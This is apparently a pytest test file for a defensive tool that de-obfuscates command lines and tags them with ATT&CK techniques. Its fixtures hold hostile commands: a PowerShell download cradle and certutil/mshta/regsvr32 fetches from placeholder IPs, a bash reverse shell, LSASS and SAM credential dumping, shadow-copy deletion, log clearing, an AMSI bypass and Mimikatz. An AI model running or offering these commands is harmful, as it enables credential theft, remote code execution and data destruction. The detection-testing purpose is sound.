"""Explaining command lines: what is hidden comes out, what it does is named, nothing runs, and bounds hold."""

import base64
import gzip
import time
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tracehound.knowledge import attack
from tracehound.tools import explain as module
from tracehound.tools.decode import MAX_LAYERS, layers
from tracehound.tools.explain import explain


def wide(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def narrow(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def deflated(text: str) -> str:
    engine = zlib.compressobj(wbits=-15)
    return narrow(engine.compress(text.encode()) + engine.flush())


SECRET = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"
HIDDEN = [
    ("powershell -enc " + wide(SECRET), SECRET),
    ("powershell.exe -NoP -W Hidden -EncodedCommand " + wide(SECRET), SECRET),
    (f"IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{narrow(SECRET.encode())}')))", SECRET),
    (f"$s=[Convert]::FromBase64String('{narrow(gzip.compress(SECRET.encode()))}')", SECRET),
    (f"New-Object IO.Compression.DeflateStream('{deflated(SECRET)}')", SECRET),
    (wide("powershell -enc " + wide(SECRET)), SECRET),
    (SECRET.encode().hex(), SECRET),
    ("".join(f"\\x{byte:02x}" for byte in b"whoami /all"), "whoami /all"),
    ("[char]119+[char]104+[char]111+[char]97+[char]109+[char]105", "whoami"),
    ("String.fromCharCode(119,104,111,97,109,105)", "whoami"),
    ("Chr(119) & Chr(104) & Chr(111) & Chr(97)", "whoa"),
    ("%77%68%6f%61%6d%69", "whoami"),
    ("c^m^d /c w^h^o^a^m^i", "cmd /c whoami"),
    ("iN`vO`kE-eX`prEssion x", "iNvOkE-eXprEssion x"),
    ('cmd /c who""ami', "whoami"),
    ("('Down'+'load'+'String')", "DownloadString"),
    ("(\"{1}{0}\" -f 'ell','Start-Sh')", "Start-Shell"),
    ("%COMSPEC:~-7,3% /c dir", "cmd /c dir"),
    ("&($PSHome[4]+$PSHome[30]+'x') y", "iex"),
    ("$env:ComSpec[4,24,25]-join''", "iex"),
    ("'imaohw'[-1..-6] -join ''", "whoami"),
    ('StrReverse("imaohw")', "whoami"),
]


@pytest.mark.parametrize(("text", "says"), HIDDEN, ids=[str(number) for number in range(len(HIDDEN))])
def test_what_is_hidden_comes_out(text: str, says: str) -> None:
    assert any(says in layer.text for layer in layers(text)), layers(text)


PLAIN = [
    "Get-ChildItem C:\\Logs -Filter *.log",
    "d41d8cd98f00b204e9800998ecf8427e",
    "C:\\Program Files\\Application\\program.exe --type=renderer",
    "The quick brown fox",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "echo 100% of 20% and 30%",
    "",
]


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_has_no_layers(text: str) -> None:
    assert layers(text) == []


DOES = [
    ("rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full", "T1003.001", True),
    ("certutil -urlcache -split -f http://192.0.2.4/a.exe a.exe", "T1105", True),
    ("mshta http://192.0.2.4/a.hta", "T1218.005", True),
    ("regsvr32 /s /n /u /i:http://192.0.2.4/x.sct scrobj.dll", "T1218.010", True),
    ("vssadmin delete shadows /all /quiet", "T1490", True),
    ("wevtutil cl Security", "T1070.001", True),
    ("reg save HKLM\\SAM C:\\s", "T1003.002", True),
    ("schtasks /create /tn x /tr y /s SRV1", "T1053.005", True),
    ("sc \\\\SRV1 create x binpath= y", "T1569.002", True),
    ("wmic /node:SRV1 process call create cmd.exe", "T1047", True),
    ('net group "Domain Admins" /domain', "T1069", False),
    ("whoami /groups", "T1033", False),
    ("7z a -pX C:\\t.7z D:\\Shares", "T1560.001", True),
    ("rclone copy D:\\x remote:y", "T1567.002", True),
    ("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", "T1095", True),
    ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "T1562.001", True),
    ("powershell -enc " + wide("Invoke-Mimikatz -DumpCreds"), "T1003", True),
]


@pytest.mark.parametrize(("text", "technique", "suspicious"), DOES, ids=[entry[1] for entry in DOES])
def test_what_it_does_is_named(text: str, technique: str, suspicious: bool) -> None:
    found = explain(text)
    assert technique in found.techniques
    assert any(technique in item.techniques and item.suspicious == suspicious for item in found.behaviours)
    assert any(technique in sentence for sentence in found.sentences)


def test_an_encoded_but_harmless_command_is_called_no_more_than_encoded() -> None:
    found = explain(
        "what does this do: powershell.exe -NoProfile -enc " + wide("Get-ChildItem C:\\Logs | Measure-Object")
    )
    assert [layer.text for layer in found.layers] == ["Get-ChildItem C:\\Logs | Measure-Object"]
    assert [item.means for item in found.behaviours if item.suspicious] == []
    assert any(item.hides for item in found.behaviours)
    assert found.kind == "powershell"


def test_indicators_come_from_all_layers() -> None:
    found = explain("powershell -enc " + wide(SECRET))
    assert found.indicators["url"] == ("http://203.0.113.5/a.ps1",)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("powershell -c whoami", "powershell"),
        ("C:\\Windows\\System32\\certutil.exe -f", "command line"),
        ("c^m^d^ /c whoami", "command line"),
        ("var a = new ActiveXObject('WScript.Shell'); function run() { return a; }", "script"),
        (narrow(b"just some words in here"), "encoded text"),
        ("What is lateral movement?", "text"),
    ],
)
def test_kind(text: str, kind: str) -> None:
    assert explain(text).kind == kind


def test_ordinary_words_are_not_programs() -> None:
    assert explain("the net result of the sc meeting is a reg form").behaviours == ()


def test_the_end_says_that_nothing_ran() -> None:
    assert explain("whoami").sentences[-1] == "It was read, not run."
    assert "not make it harmless" in explain("zzz qqq").sentences[-2]


def test_a_bomb_is_bounded() -> None:
    bomb = narrow(gzip.compress(b"A" * 50_000_000))
    started = time.monotonic()
    found = layers(f"FromBase64String('{bomb}')")
    assert time.monotonic() - started < 5
    assert all(len(layer.text) <= 200_000 for layer in found)


def test_nesting_is_bounded() -> None:
    text = "whoami"
    for _ in range(12):
        text = "powershell -enc " + wide(text)
    assert 0 < len(layers(text[:100_000])) <= MAX_LAYERS


@settings(max_examples=150, deadline=3_000)
@given(st.text(max_size=400))
def test_any_text_is_explained(text: str) -> None:
    assert explain(text).sentences


def test_the_table_names_techniques_that_exist() -> None:
    table = module._table()
    entries = [*table["programs"].values(), *table["phrases"]]
    entries += [option for entry in table["programs"].values() for option in entry.get("options", ())]
    for entry in entries:
        for name in entry.get("techniques", ()):
            found = attack.technique(name)
            assert found is not None, name
            assert not found.withdrawn, name
